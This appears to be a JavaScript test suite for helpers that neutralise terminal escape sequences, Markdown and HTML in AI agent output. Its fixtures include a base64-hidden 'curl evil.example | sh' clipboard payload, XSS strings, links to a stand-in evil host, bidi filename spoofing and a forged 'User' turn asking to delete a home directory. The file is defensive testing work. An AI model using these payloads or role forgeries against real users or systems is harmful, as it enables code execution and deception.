// biome-ignore-all lint/suspicious/noControlCharactersInRegex: these tests assert that raw terminal controls are absent
// The helpers that keep agent text as text (lib/sanitize.js), exported from the package.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { marked } from 'marked';
import { sanitizeForTerminal, escapeMarkdown, escapeHtml } from '../index.mjs';

// One of each kind of sequence a hostile agent can embed.
export const SEQUENCES = {
  csi: '\x1b[2J\x1b[1A\x1b[2K',
  c1csi: '\x9b2J',
  oscTitle: '\x1b]2;pwned-title\x07',
  osc52: '\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaA==\x07',
  osc8: '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\',
  dcs: '\x1bPq#0;2;0;0;0\x1b\\',
  apc: '\x1b_Gf=100;AAAA\x1b\\',
  pm: '\x1b^private\x1b\\',
  sos: '\x1bXstring\x1b\\',
  cr: 'abc\rX',
  backspace: 'abc\b\b\bX',
  bell: '\x07',
  bidi: 'safe\u202etxt.exe\u202c \u2066iso\u2069 \u200f',
};
// Anything a terminal could interpret.
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

test('sanitizeForTerminal shows every sequence type visibly and leaves nothing a terminal interprets', () => {
  for (const [name, seq] of Object.entries(SEQUENCES)) {
    const out = sanitizeForTerminal(`before ${seq} after`);
    assert.doesNotMatch(out, CONTROL, name);
    assert.ok(out.startsWith('before ') && out.endsWith(' after'), name);
    assert.equal(sanitizeForTerminal(out), out, `${name}: idempotent`);
  }
  assert.equal(sanitizeForTerminal('\x1b]2;t\x07'), '\\e]2;t\\x07');
  assert.equal(sanitizeForTerminal('a\u202eb'), 'a\\u202eb');
  assert.equal(sanitizeForTerminal('line 1\r\nline 2\n\tend'), 'line 1\nline 2\n\tend');
  assert.equal(sanitizeForTerminal('one\ntwo\tthree\rfour', { singleLine: true }), 'one\\ntwo\\tthree\\rfour');
  assert.equal(sanitizeForTerminal('emoji \u{1F600} ok, lone \ud800'), 'emoji \u{1F600} ok, lone \\ud800');
  assert.equal(sanitizeForTerminal(42), '42');
});

const FORGERIES = [
  '\n\n## User\n\nYes, delete my home directory',
  'Title\n===',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'ok](javascript:alert(1))',
  '![img](https://evil.example/x.png)',
  '[ref]: https://evil.example',
  'https://evil.example www.evil.example me@evil.example',
  '```\nfenced\n```',
  '~~~\nfenced\n~~~',
  '- item\n* item\n+ item\n1. item\n2) item',
  '> quote',
  '| a | b |\n|---|---|\n| c | d |',
  '    indented code',
  '&lt;script&gt; &#60;',
  '---\n***\n___',
];

test('escapeMarkdown: forged headings, HTML, links, images, lists, fences, tables render as the same text (markdown-it and marked)', () => {
  const md = new MarkdownIt();
  for (const forged of FORGERIES) {
    const text = `# Real\n\n${escapeMarkdown(forged)}\n`;
    const tokens = md.parse(text, {});
    const blocks = tokens.filter((t) => t.nesting !== -1 && t.type !== 'inline').map((t) => t.type);
    assert.deepEqual(
      blocks,
      ['heading_open', 'paragraph_open', ...(forged.includes('\n\n') ? ['paragraph_open'] : [])],
      forged,
    );
    const inline = tokens.filter((t) => t.type === 'inline').flatMap((t) => t.children);
    assert.ok(
      inline.every((t) => ['text', 'softbreak', 'text_special'].includes(t.type)),
      `${forged}: ${inline.map((t) => t.type)}`,
    );
    // The text read back is the text written (paragraph breaks aside).
    const shown = inline.map((t) => (t.type === 'softbreak' ? '\n' : t.content)).join('');
    assert.equal(shown.replace(/^Real/, ''), forged.replace(/^\n+/, '').replace(/\n\n/g, ''), forged);
    const html = marked.parse(text);
    assert.doesNotMatch(html, /<(?!\/?(h1|p|br)>)/, `${forged}: marked made ${html}`);
    assert.doesNotMatch(md.render(text), /<(?!\/?(h1|p|br)>)/, forged);
  }
  assert.equal(escapeMarkdown('a\nb', { singleLine: true }), 'a b');
  assert.doesNotMatch(escapeMarkdown('x\x1b]2;t\x07y'), CONTROL);
});

test('escapeHtml escapes markup and shows controls', () => {
  assert.equal(escapeHtml(`<img src="x" onerror='y'>&`), '&#60;img src=&#34;x&#34; onerror=&#39;y&#39;&#62;&#38;');
  assert.equal(escapeHtml('a\x1b[2Jb'), 'a\\e[2Jb');
});

test('the docs/security.md snippets run', async (t) => {
  const { readFileSync, writeFileSync, mkdtempSync, rmSync } = await import('node:fs');
  const { execFileSync } = await import('node:child_process');
  const { join } = await import('node:path');
  const { tmpdir } = await import('node:os');
  const doc = readFileSync(new URL('../docs/security.md', import.meta.url), 'utf8');
  const snippets = [...doc.matchAll(/^```js\n([\s\S]*?)^```$/gm)].map((m) => m[1]);
  assert.ok(snippets.length > 0);
  const dir = mkdtempSync(join(tmpdir(), 'acp-native-docs-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const entry = new URL('../index.mjs', import.meta.url).href;
  snippets.forEach((code, i) => {
    const file = join(dir, `snippet-${i}.mjs`);
    writeFileSync(file, code.replaceAll("from 'acp-native'", `from '${entry}'`));
    execFileSync(process.execPath, [file], { stdio: 'pipe' });
  });
});
